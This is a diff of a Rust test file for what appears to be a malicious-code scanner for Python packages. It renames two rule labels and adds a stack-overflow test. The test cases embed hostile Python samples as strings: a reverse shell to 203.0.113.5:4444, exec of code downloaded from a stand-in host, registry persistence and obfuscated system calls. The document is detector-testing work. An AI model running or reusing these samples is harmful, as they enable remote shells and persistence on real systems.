@@ -72,7 +72,7 @@ fn malicious_patterns_are_blocked() {
     let cases: &[(&str, &str)] = &[
         ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "exec-decoded"),
         ("import urllib.request as u\nexec(u.urlopen('http://x.example.invalid/p').read())\n", "exec-downloaded"),
-        ("from os import system as s\nimport codecs\ns(codecs.decode('rpub', 'rot13'))\n", "process-hostile"),
+        ("from os import system as s\nimport codecs\ns(codecs.decode('rpub', 'rot13'))\n", "process-decoded"),
         (
             "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nsubprocess.call(['/bin/sh', '-i'])\n",
             "reverse-shell",
@@ -81,7 +81,7 @@ fn malicious_patterns_are_blocked() {
             "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\nwinreg.SetValueEx(k, 'x', 0, 1, 'c:\\\\x.exe')\n",
             "persistence-registry",
         ),
-        ("import os\ngetattr(os, 'sys' + 'tem')(''.join(map(chr, [108, 115])))\n", "process-hostile"),
+        ("import os\ngetattr(os, 'sys' + 'tem')(''.join(map(chr, [108, 115])))\n", "process-decoded"),
         ("print 'py2'\nexec ''.join(reversed('1)(tnirp'))\n", "exec-decoded"),
     ];
     for (src, rule) in cases {
@@ -92,4 +92,23 @@ fn malicious_patterns_are_blocked() {
     }
     let pyc = [Entry { path: "hidden.pyc", bytes: b"\x00\x01" }];
     assert!(scan(&ManifestFacts::default(), &pyc).risk_level >= RiskLevel::High);
+}
+
+#[test]
+fn absurd_nesting_is_a_finding_not_a_crash() {
+    // Deep enough to overflow a recursive walk on a 2 MiB stack.
+    for src in [
+        format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000)),
+        format!("x = {}\n", vec!["'a'"; 50_000].join(" + ")),
+        format!("exec({}'x'{})\n", "f(".repeat(20_000), ")".repeat(20_000)),
+    ] {
+        let report = std::thread::Builder::new()
+            .stack_size(2 * 1024 * 1024)
+            .spawn(move || scan(&ManifestFacts::default(), &[Entry { path: "deep.py", bytes: src.as_bytes() }]))
+            .unwrap()
+            .join()
+            .expect("the scan does not overflow the stack");
+        assert!(report.findings.iter().any(|f| f.rule == "excessive-nesting"), "{:#?}", report.findings);
+        assert!(report.risk_level >= RiskLevel::High);
+    }
 }
